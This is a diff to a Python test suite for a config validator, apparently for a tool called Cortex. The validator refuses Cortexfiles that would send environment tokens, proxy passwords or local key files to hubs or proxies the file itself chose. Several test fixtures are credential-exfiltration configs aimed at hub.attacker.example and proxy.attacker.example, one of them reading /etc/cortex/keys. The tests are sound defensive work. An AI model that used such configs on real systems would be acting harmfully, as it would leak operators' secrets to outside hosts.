@@ -65,7 +65,11 @@ def test_a_link_beside_the_cortexfile_that_leads_out_is_refused_by_the_preflight
     ("AWS_SECRET_ACCESS_KEY", "AWS_SECRET_ACCESS_KEY", False),
     ("AWS_SECRET_ACCESS_KEY", "AWS_*,OTHER", False),
     ("HF_TOKEN", "", False),
-    ("CORTEX_HUB_TOKEN", "", False),
+    ("CORTEX_HUB_TOKEN", "", False),  # a CORTEX_ name of the operator's
+    ("CORTEX_NETWORK__HUGGINGFACE__TOKEN", "", False),  # the setting's own variable
+    ("CORTEX_SERVER__AUTH__API_KEYS", "", True),  # another setting's: the API keys would go to the hub
+    ("HTTPS_PROXY", "", True),  # a usual name, but another setting's
+    ("GH_TOKEN", "", True),
 ])  # fmt: skip
 def test_an_env_secret_sent_to_a_server_must_be_set_aside(
     name: str, declared: str, refused: bool, write_cortexfile: Callable[..., Path]
@@ -87,31 +91,56 @@ def test_secrets_that_stay_here_and_the_operators_own_are_free(write_cortexfile:
 
 @pytest.mark.parametrize(("network", "words"), [
     ("huggingface:\n    endpoint: http://hub.corp\n    token: ${env:HF_TOKEN}", "the hub token would cross"),
-    ("proxy:\n    url: http://proxy.corp:3128\n    username: u\n    password: ${env:HTTPS_PROXY}",
+    ("proxy:\n    url: http://proxy.corp:3128\n    username: u\n    password: ${env:PROXY_PASSWORD}",
      "the proxy password would cross the network"),
     ("proxy:\n    url: http://u:p@proxy.corp:3128", "the proxy password would cross the network"),
 ])  # fmt: skip
 def test_tokens_and_proxy_passwords_never_cross_the_network_in_clear_text(
     network: str, words: str, write_cortexfile: Callable[..., Path]
 ) -> None:
-    found = refusals(write_cortexfile(f"version: 1\nnetwork:\n  {network}\n"))
+    declared = {"CORTEX_SECRET_ENV": "HF_TOKEN,PROXY_PASSWORD"}
+    found = refusals(write_cortexfile(f"version: 1\nnetwork:\n  {network}\n"), declared)
     assert any(words in problem for problem in found), found
 
 
 @pytest.mark.parametrize("network", [
     "huggingface:\n    endpoint: http://127.0.0.1:8080\n    token: ${env:HF_TOKEN}",
-    "proxy:\n    url: http://127.0.0.1:3128\n    username: u\n    password: ${env:HTTPS_PROXY}",
-    "proxy:\n    url: https://proxy.corp:3128\n    username: u\n    password: ${env:HTTPS_PROXY}",
+    "proxy:\n    url: http://127.0.0.1:3128\n    username: u\n    password: ${env:PROXY_PASSWORD}",
+    "proxy:\n    url: https://proxy.corp:3128\n    username: u\n    password: ${env:PROXY_PASSWORD}",
 ])  # fmt: skip
 def test_loopback_and_tls_are_fine(network: str, write_cortexfile: Callable[..., Path]) -> None:
-    assert refusals(write_cortexfile(f"version: 1\nnetwork:\n  {network}\n")) == []
+    declared = {"CORTEX_SECRET_ENV": "HF_TOKEN,PROXY_PASSWORD"}
+    assert refusals(write_cortexfile(f"version: 1\nnetwork:\n  {network}\n"), declared) == []
 
 
-def test_another_hub_with_the_token_is_a_warning(write_cortexfile: Callable[..., Path]) -> None:
-    path = write_cortexfile("version: 1\nnetwork:\n  huggingface:\n    endpoint: https://hub.example\n"
-                            "    token: ${env:HF_TOKEN}\n")  # fmt: skip
-    warnings = [str(d) for d in load(path).warnings]
-    assert any("the hub token is sent to hub.example, not Hugging Face" in w for w in warnings), warnings
+@pytest.mark.parametrize(("network", "environ"), [
+    # the operator's hub token (its usual name), to a hub the file chose
+    ("huggingface:\n    endpoint: https://hub.attacker.example\n    token: ${env:HF_TOKEN}", {}),
+    # the operator's own setting, to a hub the file chose
+    ("huggingface:\n    endpoint: https://hub.attacker.example",
+     {"CORTEX_NETWORK__HUGGINGFACE__TOKEN": "hf_operator"}),
+    # a file of the machine, to a proxy the file chose
+    ("proxy:\n    url: https://proxy.attacker.example\n    username: x\n    password: ${file:/etc/cortex/keys}", {}),
+])  # fmt: skip
+def test_a_secret_not_the_files_own_never_goes_where_the_file_chose(
+    network: str, environ: dict[str, str], write_cortexfile: Callable[..., Path]
+) -> None:
+    found = refusals(write_cortexfile(f"version: 1\nnetwork:\n  {network}\n"), environ)
+    assert any("the Cortexfile chose where" in problem and "is not the file's own" in problem for problem in found), (
+        found
+    )
+
+
+def test_a_destination_the_operator_chose_or_a_secret_the_file_holds_is_fine(
+    write_cortexfile: Callable[..., Path],
+) -> None:
+    own = write_cortexfile("version: 1\nnetwork:\n  huggingface:\n    endpoint: https://hub.corp\n    token: hf_x\n")
+    assert refusals(own) == []  # the file's own token, to the file's own hub
+    operators = write_cortexfile("version: 1\nnetwork:\n  huggingface:\n    token: ${env:HF_TOKEN}\n")
+    assert refusals(operators, {"CORTEX_NETWORK__HUGGINGFACE__ENDPOINT": "https://hub.corp"}) == []
+    consented = write_cortexfile("version: 1\nnetwork:\n  huggingface:\n    endpoint: https://hub.corp\n"
+                                 "    token: ${env:CORP_HUB_TOKEN}\n")  # fmt: skip
+    assert refusals(consented, {"CORTEX_SECRET_ENV": "CORP_HUB_TOKEN"}) == []
 
 
 def test_a_pushed_cortexfile_cannot_send_an_env_var_to_its_own_hub(tmp_path: Path) -> None:
